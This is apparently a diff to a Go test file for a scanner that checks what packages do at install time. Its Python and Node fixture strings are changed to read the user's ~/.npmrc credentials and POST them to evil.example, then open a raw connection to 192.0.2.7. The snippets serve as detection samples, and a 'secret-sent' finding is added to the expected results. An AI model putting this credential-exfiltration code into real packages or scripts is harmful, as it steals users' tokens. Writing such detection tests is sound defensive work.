@@ -25,8 +25,8 @@ const (
 import os, socket, urllib.request
 home = os.path.expanduser("~")
 with open(os.path.join(home, "pwn"), "w") as f: f.write("x")
-with open(os.path.join(home, ".npmrc")) as f: f.read()
-try: urllib.request.urlopen("https://evil.example/", timeout=5)
+with open(os.path.join(home, ".npmrc"), "rb") as f: loot = f.read()
+try: urllib.request.urlopen("https://evil.example/", data=loot, timeout=5)
 except OSError: pass
 try: socket.create_connection(("192.0.2.7", 443), 5)
 except OSError: pass
@@ -34,8 +34,9 @@ except OSError: pass
 	evilNode = `
 const fs = require("fs"), https = require("https"), net = require("net"), os = require("os"), path = require("path");
 fs.writeFileSync(path.join(os.homedir(), "pwn"), "x");
-fs.readFileSync(path.join(os.homedir(), ".npmrc"));
-https.get("https://evil.example/").on("error", () => net.connect(443, "192.0.2.7").on("error", () => {}));
+const loot = fs.readFileSync(path.join(os.homedir(), ".npmrc"));
+https.request("https://evil.example/", { method: "POST" }, (r) => r.resume()).on("error", () => {}).end(loot);
+const raw = net.connect(443, "192.0.2.7", () => raw.destroy()).on("error", () => {});
 `
 	// what an honest package may do when it is installed.
 	goodPython = `
@@ -216,7 +217,7 @@ func wantFindings(t *testing.T, r *Result, want ...string) {
 // thefts are what an installation with the evil code is told for.
 var thefts = []string{
 	"bait-read-at-install install", "install-exfiltration install", "install-network install",
-	"install-raw-address install", "install-writes-outside install",
+	"install-raw-address install", "install-writes-outside install", "secret-sent install",
 }
 
 func TestInstallThieves(t *testing.T) {
